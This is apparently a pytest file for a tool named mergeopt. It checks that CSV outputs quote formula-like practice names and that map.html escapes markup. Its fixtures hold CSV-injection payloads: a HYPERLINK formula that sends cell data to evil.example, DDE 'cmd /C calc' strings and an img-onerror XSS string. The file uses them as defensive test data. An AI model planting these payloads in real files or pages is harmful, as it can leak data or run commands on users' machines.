"""Hostile text in the inputs reaching the outputs: a practice name that a spreadsheet
would run as a formula, or a browser as HTML.

Every CSV mergeopt writes shows such text as text (a ``'`` in front, numbers still
numbers) and reads it back as it was; map.html shows names escaped, never as markup.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from mergeopt._csv import TRIGGERS, neutralise, quote, restore, unquote
from tests.hostile_cases.helpers import PRACTICES, invoke, one_line, tally, write_area

KIND = "formula or markup in names"

#: Names a spreadsheet would run: each starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=SUM(A1:A9)",
]
MARKUP = '<img src=x onerror="alert(1)"> & [bold]Surgery[/]'


def _rows() -> list[dict[str, object]]:
    names = [*FORMULAS, MARKUP]
    return [row | {"practice_name": name} for row, name in zip(PRACTICES, names, strict=True)]


@pytest.fixture
def area(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return write_area(tmp_path, _rows())


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_no_csv_cell_of_a_run_starts_a_formula(area, tmp_path):
    """Names beginning = + - @ were written unchanged, and ran in Excel."""
    code, _, stderr = invoke("run", area)
    assert code == 0, stderr
    run = tmp_path / "runs" / "area"
    for name in ("assignments.csv", "groups.csv"):
        for row in _cells(run / name):
            for column, cell in row.items():
                assert not cell.startswith(TRIGGERS) or _number(cell), (name, column, cell)
    shown = {row["practice_code"]: row["practice_name"] for row in _cells(run / "assignments.csv")}
    for row in _rows():
        assert unquote(shown[str(row["practice_code"])]) == row["practice_name"]
    # numbers stay numbers
    assert {row["list_size"] for row in _cells(run / "assignments.csv")} == {
        str(row["list_size"]) for row in PRACTICES
    }
    tally(KIND, "CSV cells written as text")


def test_a_run_with_such_names_reads_back_as_it_was(area, tmp_path):
    code, _, stderr = invoke("run", area)
    assert code == 0, stderr
    run = tmp_path / "runs" / "area"
    code, _, stderr = invoke("map", run)
    assert code == 0, stderr
    names = set(pd.read_csv(run / "assignments.csv")["practice_name"].map(unquote))
    assert names == {str(row["practice_name"]) for row in _rows()}
    tally(KIND, "read back as written")


def test_names_in_the_interactive_map_are_escaped(area, tmp_path):
    """Names were not HTML-escaped in map.html's hover text."""
    text = area.read_text().replace("maps: false", "maps: true")
    area.write_text(text)
    code, _, stderr = invoke("run", area)
    assert code == 0, stderr
    page = (tmp_path / "runs" / "area" / "map.html").read_text(encoding="utf-8")
    figure = json.loads(_figure_json(page))
    hover = [t for trace in figure["data"] for t in _texts(trace)]
    assert any("&lt;Img Src=X Onerror=&quot;Alert(1)&quot;&gt;" in t for t in hover), hover
    assert not any("<img" in t.lower() for t in hover)
    tally(KIND, "HTML escaped in map.html")


def test_markup_in_an_error_message_is_printed_as_it_is(area):
    """A code such as ``[/x]`` in an error message was taken as console markup."""
    area.write_text(area.read_text() + 'rules:\n  forced_hubs: ["[/x]"]\n')
    code, _, stderr = invoke("run", area)
    assert code == 2
    one_line(stderr, "rules.forced_hubs", "[/x]")
    tally(KIND, "markup in a message printed as text")


def test_a_prepared_practices_table_is_safe_and_reads_back(tmp_path):
    frame = pd.DataFrame(_rows())
    path = tmp_path / "table.csv"
    neutralise(frame).to_csv(path, index=False)
    for row in _cells(path):
        assert not row["practice_name"].startswith(TRIGGERS)
    from mergeopt.inputs.tables import read_table

    back = read_table(path)
    assert list(back["practice_name"]) == [row["practice_name"] for row in _rows()]
    tally(KIND, "prepared table reads back")


@pytest.mark.parametrize(
    "text", [*FORMULAS, MARKUP, "", "'", "''", "'-", "'=already quoted", "plain", "\t=x"]
)
def test_quoting_is_undone_exactly(text):
    assert unquote(quote(text)) == text
    assert not quote(text).startswith(TRIGGERS)


def test_numbers_are_never_quoted():
    frame = pd.DataFrame({"n": [-1, 2], "x": [-1.5, 0.0], "code": ["-1", "A"]})
    safe = neutralise(frame)
    assert list(safe["n"]) == [-1, 2] and list(safe["x"]) == [-1.5, 0.0]
    assert list(safe["code"]) == ["'-1", "A"]
    assert restore(safe).equals(frame)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _figure_json(page: str) -> str:
    """The data of the page's figures (with and without the basemap), as one list."""
    start = page.index("var figures = ") + len("var figures = ")
    figures, _ = json.JSONDecoder().raw_decode(page, start)
    return json.dumps({"data": [trace for key in figures for trace in figures[key]["data"]]})


def _texts(trace: dict[str, object]) -> list[str]:
    text = trace.get("text")
    if isinstance(text, str):
        return [text]
    if isinstance(text, list):
        return [str(t) for t in text]
    return []


def test_a_dollar_sign_in_names_draws_the_static_map(tmp_path, monkeypatch):
    """Two ``$`` around text matplotlib cannot parse as math failed the whole map."""
    monkeypatch.chdir(tmp_path)
    rows = [row | {"practice_name": f"Dr $mith \\frac{{$ {k}"} for k, row in enumerate(PRACTICES)]
    config = write_area(tmp_path, rows)
    config.write_text(config.read_text().replace("maps: false", "maps: true"))
    code, _, stderr = invoke("run", config)
    assert code == 0, stderr
    assert (tmp_path / "runs" / "area" / "map.png").stat().st_size > 0
    tally(KIND, "dollar signs drawn as text in map.png")


def test_a_travel_matrix_with_formula_codes_reads_back(tmp_path):
    """`mergeopt travel` writes codes such as ``-X1`` quoted; the matrix reader takes the
    quote off, so the matrix still fits its practices."""
    from mergeopt._csv import write_csv
    from mergeopt.inputs.matrix import read_travel_matrix, travel_matrix_table

    codes = ["-X1", "=X2", "X3"]
    minutes = [[0.0, 5.0, 7.5], [5.0, 0.0, 3.0], [7.5, 3.0, 0.0]]
    path = tmp_path / "minutes.csv"
    write_csv(travel_matrix_table(codes, np.array(minutes)), path)
    assert "'-X1" in path.read_text()
    assert read_travel_matrix(path, codes).tolist() == minutes
    tally(KIND, "travel matrix reads back")
